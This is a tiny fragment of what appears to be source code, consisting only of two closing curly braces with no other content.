	}
}
